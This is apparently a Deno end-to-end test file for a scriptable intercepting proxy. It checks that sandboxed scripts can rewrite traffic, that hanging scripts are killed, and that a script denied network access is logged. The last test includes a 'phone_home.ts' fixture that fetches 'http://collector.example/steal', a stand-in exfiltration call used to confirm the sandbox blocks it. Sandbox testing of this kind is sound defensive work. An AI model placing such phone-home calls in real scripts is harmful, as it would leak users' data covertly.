/** Sandboxed scripts end to end: real sockets through the running proxy to a raw origin. */
import { match, ok, strictEqual } from "node:assert/strict";
import { ProxyServer } from "../../../addons/proxyserver.ts";
import { BufferedConn } from "../../e2e/support/buffered_conn.ts";
import { bodyText, header, proxyRequest, readResponse } from "../../e2e/support/http_wire.ts";
import { startRawOrigin } from "../../e2e/support/raw_origin.ts";
import { ScriptHarness } from "./script_harness.ts";

async function startProxy(h: ScriptHarness): Promise<number> {
  const server = h.master.addons.get("proxyserver") as ProxyServer;
  h.master.options.update({ listen_host: "127.0.0.1", listen_port: 0 });
  await h.master.addons.trigger("running");
  return server.servers[0].address!.port;
}

async function get(port: number, url: string) {
  using conn = await BufferedConn.connect(port);
  await conn.write(proxyRequest("GET", url, [["Connection", "close"]]));
  return await readResponse(conn);
}

Deno.test("proxy e2e: a sandboxed script edits requests and responses on the wire", async () => {
  await using origin = startRawOrigin();
  await using h = await ScriptHarness.create({}, { proxy: true });
  const path = h.write(
    "wire.ts",
    `import { Response } from "mitmdeno";
    export default {
      request(flow) {
        if (flow.request.path === "/reply") {
          flow.response = Response.make(200, "answered by the script", { "x-from": "script" });
          return;
        }
        flow.request.headers.set("x-script", "request");
      },
      response(flow) {
        flow.response.headers.set("x-script", "response");
      },
    };`,
  );
  await h.load(path);
  const port = await startProxy(h);
  const echoed = await get(port, origin.url("/echo"));
  strictEqual(echoed.status, 200);
  strictEqual(header(echoed.headers, "x-script"), "response");
  const seen = JSON.parse(bodyText(echoed)) as { headers: [string, string][] };
  ok(seen.headers.some(([n, v]) => n.toLowerCase() === "x-script" && v === "request"));
  const before = origin.requests.length;
  const replied = await get(port, origin.url("/reply"));
  strictEqual(replied.status, 200);
  strictEqual(bodyText(replied), "answered by the script");
  strictEqual(header(replied.headers, "x-from"), "script");
  strictEqual(origin.requests.length, before, "the origin never saw /reply");
});

Deno.test("proxy e2e: a hanging script is killed, the request still goes through", async () => {
  await using origin = startRawOrigin();
  await using h = await ScriptHarness.create({ script_timeout: 1 }, { proxy: true });
  const path = h.write(
    "hang.ts",
    `export default {
      request(flow) {
        if (flow.request.path.startsWith("/echo?hang")) for (;;) {}
        flow.request.headers.set("x-script", "alive");
      },
    };`,
  );
  await h.load(path);
  const port = await startProxy(h);
  const start = performance.now();
  const hung = await get(port, origin.url("/echo?hang"));
  ok(performance.now() - start >= 900);
  strictEqual(hung.status, 200);
  const seen = JSON.parse(bodyText(hung)) as { headers: [string, string][] };
  ok(!seen.headers.some(([n]) => n.toLowerCase() === "x-script"), "forwarded unchanged");
  match(await h.waitForLog(/hang\.ts: request did not finish/), /restarting it/);
  const next = await get(port, origin.url("/echo"));
  const nextSeen = JSON.parse(bodyText(next)) as { headers: [string, string][] };
  ok(nextSeen.headers.some(([n, v]) => n.toLowerCase() === "x-script" && v === "alive"));
});

Deno.test("proxy e2e: a script denied a permission is logged; the request goes through", async () => {
  await using origin = startRawOrigin();
  await using h = await ScriptHarness.create({}, { proxy: true });
  const path = h.write(
    "phone_home.ts",
    `export default { async request() { await fetch("http://collector.example/steal"); } };`,
  );
  await h.load(path);
  const port = await startProxy(h);
  const res = await get(port, origin.url("/echo"));
  strictEqual(res.status, 200);
  match(await h.waitForLog(/phone_home\.ts: request was refused a permission/), /net access/);
});
